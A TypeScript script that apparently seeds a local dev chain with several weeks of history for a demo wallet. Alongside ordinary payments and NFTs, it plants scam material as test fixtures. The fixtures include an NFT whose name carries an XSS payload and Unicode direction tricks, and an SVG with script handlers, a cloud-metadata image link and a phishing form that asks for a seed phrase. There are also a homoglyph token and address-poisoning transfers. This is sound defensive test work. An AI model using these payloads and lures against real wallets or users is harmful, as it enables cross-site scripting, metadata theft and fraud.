import { readReceipt } from '@latchkey/wallet/readReceipt.ts'
import { type Address, encodeDeployData, encodeFunctionData, getAddress, type Hex, parseEther, parseUnits } from 'viem'
import type { DemoContracts } from '../settings.ts'
import { getDevAccount } from './accounts.ts'
import { connectNode, findContract } from './devChain.ts'

const DAY_S = 86_400
/** How far back the past reaches, in days. The contracts are as old as that. */
export const PAST_DAYS = 42

/** The demo's keepsakes and seeds, and where the hostile ones come from. */
export type PastContracts = {
  readonly keepsakes: Address
  readonly seeds: Address
  /** An NFT that nobody asked for, whose name and picture try to do harm. */
  readonly lure: Address
  /** Looks like the demo's dollar and is another token. */
  readonly falseDollar: Address
  /** A token that was sent to advertise an address. */
  readonly spam: Address
}

/**
 * Gives the demo wallet's first account the past that a few weeks of use leave behind: payments in and out, a purchase, a
 * transaction that failed, NFTs of every kind, and what strangers send to deceive: tokens that advertise, a token that
 * looks like another, transfers of nothing to an address that resembles one that was paid before, and a payment that was
 * taken back inside its transaction. Balances afterwards are those before; blocks then follow the clock.
 * The chain must have begun `PAST_DAYS` ago. Rejects when the chain refuses a step.
 */
export async function writePast(rpcUrl: string, chainId: number, contracts: DemoContracts): Promise<PastContracts> {
  const node = connectNode(rpcUrl, chainId)
  const nowS = Math.floor(Date.now() / 1000)
  const [maker, visitor, second, friend, payee] = [0, 1, 2, 3, 4].map((index) => getDevAccount(index).address) as [
    Address,
    Address,
    Address,
    Address,
    Address,
  ]
  // The first and last characters are those that people compare.
  const lookalike = getAddress(`${payee.slice(0, 6)}${'5e'.repeat(16)}${payee.slice(-4)}`)
  const kept = await Promise.all([visitor, second].map((address) => node.getBalance({ address })))
  await node.request({ method: 'anvil_autoImpersonateAccount', params: [true] } as never)
  for (const address of [visitor, lookalike]) await node.setBalance({ address, value: parseEther('100') })

  const send = async (
    daysAgo: number,
    from: Address,
    transaction: { to?: Address; data?: Hex; value?: bigint },
    mayFail = false,
  ): Promise<Address> => {
    await node.setNextBlockTimestamp({ timestamp: BigInt(Math.round(nowS - daysAgo * DAY_S)) })
    // Gas is given, so that what fails is mined and not refused.
    const hash = await node.sendUnsignedTransaction({ from, ...transaction, gas: 6_000_000n } as never)
    const receipt = await readReceipt(node, hash, 10)
    if (receipt.status !== 'success' && !mayFail) throw new Error(`The dev chain reverted ${hash}.`)
    return receipt.contractAddress ?? '0x'
  }
  const deploy = (daysAgo: number, name: string, args: readonly unknown[] = []): Promise<Address> =>
    send(daysAgo, maker, { data: encodeDeployData({ ...findContract(name), args }) })
  const call = (
    daysAgo: number,
    from: Address,
    to: Address,
    [name, functionName, ...args]: readonly [name: string, functionName: string, ...args: unknown[]],
    value = 0n,
  ): Promise<Address> =>
    send(daysAgo, from, {
      to,
      data: encodeFunctionData({ abi: findContract(name).abi, functionName, args }),
      value,
    })
  const { pine, dollar, wrappedEther, shop } = contracts
  const pines = (amount: string) => parseUnits(amount, 18)
  const dollars = (amount: string) => parseUnits(amount, 6)

  const keepsakes = await deploy(41.2, 'Keepsakes', ['Hollowpine Keepsakes', 'KEEP'])
  const seeds = await deploy(41.1, 'Seeds')
  for (const [id, [name, colour]] of SEEDS.entries()) {
    await call(41, maker, seeds, ['Seeds', 'describe', BigInt(id + 1), describeSeed(name, colour)])
  }
  await send(38.4, friend, { to: visitor, value: parseEther('0.4') })
  // Two shares: ether goes, a certificate and twenty PINE come, all in one transaction.
  await call(36.9, visitor, shop, ['HollowpineShop', 'plant', 0n, 2], parseEther('0.024'))
  await call(33.3, visitor, wrappedEther, ['WrappedEther', 'deposit'], parseEther('0.1'))
  await call(31.7, visitor, wrappedEther, ['WrappedEther', 'withdraw', parseEther('0.1')])
  await call(29.5, maker, dollar, ['DemoToken', 'transfer', visitor, dollars('120')])
  await call(27.8, visitor, dollar, ['DemoToken', 'approve', payee, dollars('70')])
  await call(27.2, visitor, dollar, ['DemoToken', 'transfer', payee, dollars('70')])
  await send(
    24.6,
    visitor,
    {
      to: pine,
      data: encodeFunctionData({
        abi: findContract('DemoToken').abi,
        functionName: 'transfer',
        args: [payee, pines('5000000')],
      }),
    },
    true,
  )
  await call(22.1, maker, seeds, ['Seeds', 'mint', visitor, [1n, 2n, 3n], [12n, 3n, 1n]])
  await call(20.4, visitor, seeds, ['Seeds', 'safeTransferFrom', visitor, friend, 1n, 2n, '0x'])
  await call(18.9, maker, keepsakes, ['Keepsakes', 'mint', visitor, describeKeepsake('Windmill', WINDMILL)])
  await call(18.8, maker, keepsakes, ['Keepsakes', 'mint', visitor, describeKeepsake('Sprout', SPROUT)])
  await call(17.3, visitor, pine, ['DemoToken', 'transfer', friend, pines('20')])

  // What strangers send, some of it right after a payment that it imitates.
  const lure = await deploy(14.2, 'Keepsakes', ['Claim your reward at hollowpine-rewards.example', 'REWARD'])
  await call(14.1, maker, lure, ['Keepsakes', 'mint', visitor, describeKeepsake(LURE_NAME, LURE_PICTURE)])
  const supply = parseUnits('1000000', 6)
  const spam = await deploy(13.9, 'DemoToken', ['pine-airdrop.example', 'Visit pine-airdrop.example', 6, supply])
  await call(13.8, maker, spam, ['DemoToken', 'transfer', visitor, dollars('9000')])
  await call(12.5, visitor, dollar, ['DemoToken', 'transfer', payee, dollars('50')])
  // The letter S of the symbol is U+0405, as a look-alike would have it.
  const falseDollar = await deploy(12.4, 'DemoToken', ['Demo Dollar', 'dU\u0405D', 6, supply])
  await call(12.3, maker, falseDollar, ['DemoToken', 'transfer', visitor, dollars('50')])
  await call(12.2, lookalike, dollar, ['DemoToken', 'transferFrom', visitor, lookalike, 0n])
  await send(12.1, lookalike, { to: visitor, value: 1n })
  const gift = await deploy(9.1, 'BrokenGift')
  await call(9, lookalike, gift, ['BrokenGift', 'offer', visitor], parseEther('5'))

  await send(6.4, visitor, { to: payee, value: parseEther('0.05') })
  await send(2.6, second, { to: visitor, value: parseEther('0.02') })
  await send(0.4, visitor, { to: visitor, value: parseEther('0.01') })

  await node.request({ method: 'anvil_autoImpersonateAccount', params: [false] } as never)
  for (const [index, address] of [visitor, second].entries()) {
    await node.setBalance({ address, value: kept[index] ?? 0n })
  }
  await node.request({ method: 'evm_setTime', params: [Math.floor(Date.now() / 1000)] } as never)
  await node.mine({ blocks: 1 })
  return { keepsakes, seeds, lure, falseDollar, spam }
}

const SEEDS = [
  ['Scots pine', '#7a5c34'],
  ['Rowan', '#b5472f'],
  ['Larch', '#c58f3a'],
] as const

const toBase64 = (text: string): string => Buffer.from(text).toString('base64')
const toDocument = (value: unknown): string => `data:application/json;base64,${toBase64(JSON.stringify(value))}`

function describeSeed(name: string, colour: string): string {
  const picture = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 320 320"><rect width="320" height="320" fill="#f3efe2"/><ellipse cx="160" cy="160" rx="62" ry="104" fill="${colour}" transform="rotate(24 160 160)"/></svg>`
  return toDocument({
    name: `${name} seeds`,
    description: 'A packet from the Hollowpine nursery.',
    image: `data:image/svg+xml;base64,${toBase64(picture)}`,
    attributes: [{ trait_type: 'Species', value: name }],
  })
}

function describeKeepsake(name: string, image: string): string {
  return toDocument({ name, description: 'A keepsake of the Hollowpine slope.', image, attributes: [] })
}

/** Turns for as long as it is shown, where a picture may move. */
const WINDMILL = `data:image/svg+xml;base64,${toBase64(
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 320 320"><rect width="320" height="320" fill="#cfd8bd"/><path d="M146 300 154 150h12l8 150Z" fill="#6b4a2f"/><g fill="#12452f"><animateTransform attributeName="transform" type="rotate" from="0 160 140" to="360 160 140" dur="8s" repeatCount="indefinite"/><path d="M160 140 148 40h24Z"/><path d="M160 140 260 128v24Z"/><path d="M160 140 172 240h-24Z"/><path d="M160 140 60 152v-24Z"/></g></svg>',
)}`

/** Two frames of 2 by 2 pixels: bare earth, then green. Source: GIF89a. */
const SPROUT =
  'data:image/gif;base64,R0lGODlhAgACAPAAAJpjMzyqPCH/C05FVFNDQVBFMi4wAwEAAAAh+QQAMgAAACwAAAAAAgACAAACAwQABQAh+QQAMgAAACwAAAAAAgACAAACA0wSBQA7'

/** Markup, a change of the writing direction and characters of no width, as such names carry them. */
const LURE_NAME = '<img src=x onerror=alert(1)>\u202Emialc\u202C Reward\u200B\u200B'

/** A script, a handler, and pictures from other hosts, one of them in a private network. */
const LURE_PICTURE = `data:image/svg+xml;base64,${toBase64(
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 320 320" onload="alert(1)"><script>alert(1)</script><rect width="320" height="320" fill="#e2a33c"/><image width="320" height="320" xlink:href="http://169.254.169.254/latest/meta-data"/><image width="320" height="320" href="https://tracker.example/pixel.png"/><foreignObject width="320" height="320"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://hollowpine-rewards.example"><input name="words"/></form></body></foreignObject></svg>',
)}`
